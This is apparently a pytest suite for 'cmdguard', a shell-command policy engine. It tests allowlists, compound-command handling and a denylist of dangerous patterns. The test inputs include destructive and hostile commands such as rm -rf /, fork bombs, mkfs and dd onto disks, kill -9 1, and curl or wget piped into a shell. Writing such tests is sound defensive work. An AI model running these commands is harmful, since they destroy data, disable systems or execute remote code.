"""Tests for PolicyEngine, PolicyConfig and pattern blocking."""

from __future__ import annotations

import re

import pytest

from cmdguard import ConfigurationError, SecurityViolation, Verdict
from cmdguard.security.policy import (
    DANGEROUS_PATTERNS,
    DEFAULT_ALLOWED_COMMANDS,
    CompoundPolicy,
    PolicyConfig,
    PolicyEngine,
)


class TestDenylist:
    """Dangerous patterns are blocked regardless of the allowlist."""

    def test_blocks_rm_rf_root(self, engine: PolicyEngine) -> None:
        """Should block rm -rf /."""
        verdict = engine.evaluate("rm -rf /")
        assert verdict.verdict is Verdict.BLOCKED
        assert "dangerous pattern" in verdict.reason
        assert "root" in verdict.reason.lower()

    @pytest.mark.parametrize(
        "command",
        [
            "rm -rf /*",
            "rm -rf ~",
            "rm -r -f /",
            "rm --recursive --force /",
            "rm -rf /tmp /",
            "  rm -rf /  ",
            "sh -c 'rm -rf /'",
            'ssh host "rm -rf /"',
            "docker run alpine sh -c 'rm -rf /*'",
            "bash -c \"rm -rf ~\"",
        ],
    )
    def test_blocks_recursive_root_and_home_delete(self, engine: PolicyEngine, command: str) -> None:
        """Should block deletion of / and ~ in any flag spelling."""
        verdict = engine.evaluate(command)
        assert not verdict.allowed
        assert "dangerous pattern" in verdict.reason

    def test_blocks_dangerous_tail_of_allowed_command(self, engine: PolicyEngine) -> None:
        """A destructive second stage is caught by the whole-string scan."""
        verdict = engine.evaluate("ls && rm -rf /")
        assert not verdict.allowed
        assert "dangerous pattern" in verdict.reason

    def test_blocks_fork_bomb(self, engine: PolicyEngine) -> None:
        """Should block the classic fork bomb."""
        verdict = engine.evaluate(":(){ :|:& };:")
        assert not verdict.allowed
        assert "fork bomb" in verdict.reason.lower()

    def test_blocks_named_fork_bomb(self, engine: PolicyEngine) -> None:
        """Should block fork bombs with any function name."""
        assert not engine.is_allowed("bomb(){ bomb | bomb & }; bomb")

    @pytest.mark.parametrize(
        "command",
        [
            "shutdown -h now",
            "reboot",
            "halt",
            "poweroff",
            "init 0",
            "format c:",
            "mkfs.ext4 /dev/sda1",
            "mkfs -t ext4 /dev/sdb",
            "fdisk /dev/sda",
            "dd if=/dev/zero of=/dev/sda",
            "echo garbage > /dev/sda",
            "cat image.iso > /dev/nvme0n1",
            "kill -9 1",
            "kill -9 -1",
            "killall -9 node",
            "pkill -9 python",
            "del /s /q C:\\Windows",
        ],
    )
    def test_blocks_destructive_commands(self, engine: PolicyEngine, command: str) -> None:
        """Should block disk, filesystem and termination commands."""
        verdict = engine.evaluate(command)
        assert not verdict.allowed
        assert verdict.reason.startswith("matches dangerous pattern")

    def test_blocks_curl_pipe_sh(self, engine: PolicyEngine) -> None:
        """curl is allowlisted, but piping a download into a shell is not."""
        verdict = engine.evaluate("curl http://example.com/script.sh | sh")
        assert not verdict.allowed
        assert "remote code execution" in verdict.reason.lower()

    def test_blocks_wget_pipe_python(self, engine: PolicyEngine) -> None:
        """Should block wget | python."""
        assert not engine.is_allowed("wget -O - http://example.com/x.py | python3")

    def test_blocks_permission_change_on_root(self, engine: PolicyEngine) -> None:
        """chmod and chown are allowlisted but not against /."""
        assert not engine.is_allowed("chmod -R 777 /")
        assert not engine.is_allowed("chown -R nobody /")

    def test_denylist_beats_allowlist(self) -> None:
        """An allowlisted shell cannot smuggle a denylisted command."""
        engine = PolicyEngine(PolicyConfig.allowing("sh"))
        verdict = engine.evaluate("sh -c 'mkfs /dev/sda'")
        assert not verdict.allowed
        assert "dangerous pattern" in verdict.reason

    def test_denylist_applies_to_added_commands(self) -> None:
        """Allowing rm does not allow rm -rf /."""
        engine = PolicyEngine(PolicyConfig.default().extended(allowed={"rm"}))
        assert engine.is_allowed("rm -rf ./temp")
        assert engine.is_allowed("rm file.txt")
        assert not engine.is_allowed("rm -rf /")
        assert not engine.is_allowed("rm -rf ~")

    def test_long_format_flags_are_not_formatting(self, engine: PolicyEngine) -> None:
        """--format= and format: arguments are not the format command."""
        assert engine.is_allowed("git log --format=oneline")
        assert engine.is_allowed("git log --pretty=format:%h")

    def test_dangerous_word_as_argument_still_blocked(self, engine: PolicyEngine) -> None:
        """Patterns match whole words anywhere, so arguments count too."""
        assert not engine.is_allowed("echo reboot")
        assert not engine.is_allowed("grep shutdown /var/log/syslog")

    def test_kill_of_ordinary_pid_not_matched(self) -> None:
        """kill -9 <pid> is only dangerous for pid 1 or -1."""
        engine = PolicyEngine(PolicyConfig.default().extended(allowed={"kill"}))
        assert engine.is_allowed("kill -9 1234")
        assert not engine.is_allowed("kill 1")


class TestAllowlist:
    """Base commands must be allowlisted."""

    @pytest.mark.parametrize(
        "command",
        ["ls -la", "git status", "docker ps", "npm install", "cat README.md", "find . -name '*.py'"],
    )
    def test_allows_listed_commands(self, engine: PolicyEngine, command: str) -> None:
        """Should allow allowlisted commands that match no dangerous pattern."""
        verdict = engine.evaluate(command)
        assert verdict.verdict is Verdict.ALLOWED
        assert verdict.reason is None

    def test_blocks_unlisted_command(self, engine: PolicyEngine) -> None:
        """sudo is not allowlisted even in front of a harmless command."""
        verdict = engine.evaluate("sudo ls")
        assert not verdict.allowed
        assert verdict.reason == "command not in allowlist: 'sudo'"

    def test_membership_is_case_sensitive(self, engine: PolicyEngine) -> None:
        """LS is not ls."""
        assert not engine.is_allowed("LS -la")

    def test_path_qualified_command_not_normalised(self, engine: PolicyEngine) -> None:
        """/bin/ls is not the allowlisted ls."""
        assert engine.evaluate("/bin/ls").reason == "command not in allowlist: '/bin/ls'"

    def test_env_assignment_prefix_blocked(self, engine: PolicyEngine) -> None:
        """FOO=bar ls has base token FOO=bar."""
        assert not engine.is_allowed("FOO=bar ls -la")

    def test_empty_command_blocked(self, engine: PolicyEngine) -> None:
        """Blank input is never allowed."""
        assert engine.evaluate("   ").reason == "empty command"
        assert not engine.is_allowed(";")

    def test_leading_whitespace_ignored(self, engine: PolicyEngine) -> None:
        """Leading and trailing whitespace is insignificant."""
        assert engine.is_allowed("   git status   ")

    def test_evaluate_is_idempotent(self, engine: PolicyEngine) -> None:
        """Evaluating the same string twice yields the same verdict."""
        for command in ("ls -la", "sudo ls", "rm -rf /"):
            assert engine.evaluate(command) == engine.evaluate(command)


class TestCompoundCommands:
    """Commands joined by control operators."""

    def test_each_segment_allows_all_listed(self, engine: PolicyEngine) -> None:
        """Every segment allowlisted means allowed."""
        assert engine.is_allowed("ls; whoami")
        assert engine.is_allowed("ps aux | grep node")
        assert engine.is_allowed("mkdir build && cd build || echo failed")

    def test_each_segment_blocks_unlisted_stage(self, engine: PolicyEngine) -> None:
        """A later unlisted stage blocks the whole command."""
        verdict = engine.evaluate("ls; sudo rm x")
        assert not verdict.allowed
        assert verdict.reason == "command not in allowlist: 'sudo'"
        assert verdict.segment == "sudo rm x"

    def test_each_segment_blocks_substitution(self, engine: PolicyEngine) -> None:
        """Command substitution could run anything."""
        assert engine.evaluate("echo $(whoami)").reason == "command substitution is not allowed"
        assert not engine.is_allowed("echo `id`")
        assert not engine.is_allowed('echo "$(id)"')
        assert not engine.is_allowed("cat <(ls)")

    def test_single_quotes_are_literal(self, engine: PolicyEngine) -> None:
        """Operators and substitutions inside single quotes are plain text."""
        assert engine.is_allowed("echo 'a;b | c'")
        assert engine.is_allowed("echo '$(id)'")

    def test_redirections_are_not_operators(self, engine: PolicyEngine) -> None:
        """2>&1 does not start a new command."""
        assert engine.is_allowed("ls missing 2>&1")

    def test_unbalanced_quotes_blocked(self, engine: PolicyEngine) -> None:
        """Unterminated quotes are refused."""
        assert engine.evaluate('echo "unterminated').reason == "unbalanced quotes"

    def test_first_token_mode_checks_only_first_token(self) -> None:
        """FIRST_TOKEN keeps the single-token check."""
        config = PolicyConfig(compound=CompoundPolicy.FIRST_TOKEN)
        engine = PolicyEngine(config)
        assert engine.is_allowed("ls; sudo rm x")
        assert engine.is_allowed("echo $(whoami)")
        assert not engine.is_allowed("sudo ls")

    def test_first_token_mode_stops_at_operator(self) -> None:
        """The first token ends at a control operator, with or without spaces."""
        engine = PolicyEngine(PolicyConfig(compound=CompoundPolicy.FIRST_TOKEN))
        assert engine.is_allowed("ls;pwd")
        assert engine.is_allowed("ls&&sudo x")
        assert engine.evaluate("sudo; ls").reason == "command not in allowlist: 'sudo'"
        assert engine.evaluate(";").reason == "empty command"

    def test_reject_mode_refuses_operators(self) -> None:
        """REJECT refuses any control operator or substitution."""
        engine = PolicyEngine(PolicyConfig(compound=CompoundPolicy.REJECT))
        assert engine.evaluate("ls; pwd").reason == "shell control operators are not allowed"
        assert not engine.is_allowed("echo $(id)")
        assert engine.is_allowed("ls -la")


class TestPolicyConfig:
    """Tests for the immutable configuration."""

    def test_allowing_replaces_allowlist(self) -> None:
        """allowing() restricts to the given commands."""
        engine = PolicyEngine(PolicyConfig.allowing("ls", "cat"))
        assert engine.is_allowed("cat file.txt")
        assert engine.evaluate("grep pattern file").reason == "command not in allowlist: 'grep'"

    def test_extended_returns_new_config(self) -> None:
        """extended() never mutates the receiver."""
        base = PolicyConfig.allowing("ls")
        wider = base.extended(allowed={"cat"}, patterns=[(r"\bmy_dangerous_cmd\b", "Custom dangerous command")])
        assert "cat" not in base.allowed_commands
        assert "cat" in wider.allowed_commands
        assert len(wider.blocked_patterns) == len(base.blocked_patterns) + 1

    def test_custom_pattern_blocks(self) -> None:
        """String patterns are compiled and enforced."""
        config = PolicyConfig.default().extended(
            allowed={"my_dangerous_cmd"},
            patterns=[(r"\bmy_dangerous_cmd\b", "Custom dangerous command")],
        )
        verdict = PolicyEngine(config).evaluate("my_dangerous_cmd --flag")
        assert verdict.reason == "matches dangerous pattern: Custom dangerous command"

    def test_invalid_pattern_rejected(self) -> None:
        """A bad regex is a configuration error."""
        with pytest.raises(ConfigurationError):
            PolicyConfig.default().extended(patterns=[("(unclosed", "broken")])

    def test_config_is_frozen(self) -> None:
        """Fields cannot be reassigned."""
        config = PolicyConfig.default()
        with pytest.raises(AttributeError):
            config.allowed_commands = frozenset()  # type: ignore[misc]

    def test_default_allowlist_contents(self) -> None:
        """Defaults cover read-only, VCS, package-manager and container tools."""
        assert {"ls", "git", "npm", "docker", "cp"} <= DEFAULT_ALLOWED_COMMANDS
        assert "sudo" not in DEFAULT_ALLOWED_COMMANDS
        assert "rm" not in DEFAULT_ALLOWED_COMMANDS


class TestCheck:
    """Tests for the strict check() API."""

    def test_check_returns_command(self, engine: PolicyEngine) -> None:
        """Allowed commands come back unchanged."""
        assert engine.check("ls -la") == "ls -la"

    def test_check_raises_violation(self, engine: PolicyEngine) -> None:
        """Blocked commands raise SecurityViolation with the reason."""
        with pytest.raises(SecurityViolation) as exc_info:
            engine.check("sudo ls")
        assert exc_info.value.command == "sudo ls"
        assert "allowlist" in exc_info.value.reason


class TestDangerousPatterns:
    """Tests for the DANGEROUS_PATTERNS table."""

    def test_patterns_are_compiled(self) -> None:
        """All patterns should be compiled regex objects."""
        for pattern, reason in DANGEROUS_PATTERNS:
            assert isinstance(pattern, re.Pattern)
            assert isinstance(reason, str)
            assert len(reason) > 0

    def test_patterns_have_unique_reasons(self) -> None:
        """Each pattern should have a descriptive reason."""
        reasons = [reason for _, reason in DANGEROUS_PATTERNS]
        assert len(set(reasons)) >= len(DANGEROUS_PATTERNS) // 2
